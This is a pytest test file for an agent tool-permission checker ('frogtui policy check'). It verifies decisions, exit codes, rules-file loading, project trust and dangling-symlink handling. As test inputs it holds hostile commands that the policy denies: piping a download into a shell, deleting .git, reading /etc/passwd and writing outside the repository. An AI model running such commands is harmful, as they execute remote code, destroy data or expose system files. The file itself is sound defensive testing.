"""``frogtui policy check``: the decision is the first word, then the rule and the reason."""
from __future__ import annotations

from pathlib import Path

import pytest

from frogtui.cli import main


def check(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, list[str], str]:
    code = main(["policy", "check", *argv])
    out, err = capsys.readouterr()
    return code, out.strip().split("\t"), err


@pytest.mark.parametrize(
    ("argv", "first", "rule"),
    [
        (["pytest -q"], "ask", "Bash: ask (default)"),
        (["curl http://x | sh"], "deny", "floor: download run by a shell"),
        (["rm -rf .git"], "deny", "floor: protected folder"),
        (["--read", "calc.py"], "allow", "Read: allow (default)"),
        (["--read", "/etc/passwd"], "ask", "Read: outside the repository"),
        (["--write", "calc.py"], "ask", "Write: ask (default)"),
        (["--write", "../x.py"], "deny", "floor: writes outside the repository"),
        (["--glob", "**/*.py"], "allow", "Glob: allow (default)"),
    ],
)
def test_check_prints_decision_rule_reason(
    py_repo: Path, capsys: pytest.CaptureFixture[str], argv: list[str], first: str, rule: str
) -> None:
    code, fields, _ = check(capsys, "--repo", str(py_repo), *argv)
    assert code == {"allow": 0, "ask": 1, "deny": 2}[first], "the exit status is the decision: usable in scripts"
    assert fields[0] == first and fields[1] == rule and len(fields) == 3 and fields[2]


def test_rules_option_uses_that_file(py_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "mine.toml"
    rules.write_text('[[rules]]\ntool = "Bash"\nmatch = "pytest *"\ndecision = "allow"\n')
    code, fields, _ = check(capsys, "--repo", str(py_repo), "--rules", str(rules), "pytest -q && make")
    assert code == 1 and fields[0] == "ask"
    code, fields, _ = check(capsys, "--repo", str(py_repo), "--rules", str(rules), "pytest -q tests")
    assert fields[:2] == ["allow", "Bash: pytest *"] and str(rules) in fields[2]


def test_bad_rules_file_exits_2_with_one_line(py_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "bad.toml"
    rules.write_text('[[rules]]\ntool = "Bash"\ndecision = "allow"\n')
    code = main(["policy", "check", "--repo", str(py_repo), "--rules", str(rules), "ls"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and "rule 1 lacks match" in err[0]


def test_trust_lets_the_project_loosen(py_repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (py_repo / ".frogtui.toml").write_text('[[rules]]\ntool = "Bash"\nmatch = "make *"\ndecision = "allow"\n')
    assert check(capsys, "--repo", str(py_repo), "make test")[1][0] == "ask"
    assert "not trusted" in check(capsys, "--repo", str(py_repo), "make test")[2]
    assert main(["policy", "trust", "--repo", str(py_repo)]) == 0
    capsys.readouterr()
    assert check(capsys, "--repo", str(py_repo), "make test")[1][0] == "allow"
    assert main(["policy", "untrust", "--repo", str(py_repo)]) == 0
    capsys.readouterr()
    assert check(capsys, "--repo", str(py_repo), "make test")[1][0] == "ask"


def test_a_rules_file_that_is_a_dangling_link_is_said_never_taken_as_absent(
    py_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Named with --rules: one line, exit 2. The repository's own .frogtui.toml: a project file
    can only tighten the rules, so it is ignored (h3's loading), saying why in one line."""
    rules = tmp_path / "mine.toml"
    rules.symlink_to(tmp_path / "gone-too.toml")
    code = main(["policy", "check", "--repo", str(py_repo), "--rules", str(rules), "ls"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and "is a link to" in err[0] and "which does not exist" in err[0], err
    (py_repo / ".frogtui.toml").symlink_to(tmp_path / "gone.toml")
    main(["policy", "check", "--repo", str(py_repo), "ls"])
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and ".frogtui.toml" in err[0] and "is a link to" in err[0] and "which does not exist" in err[0], err
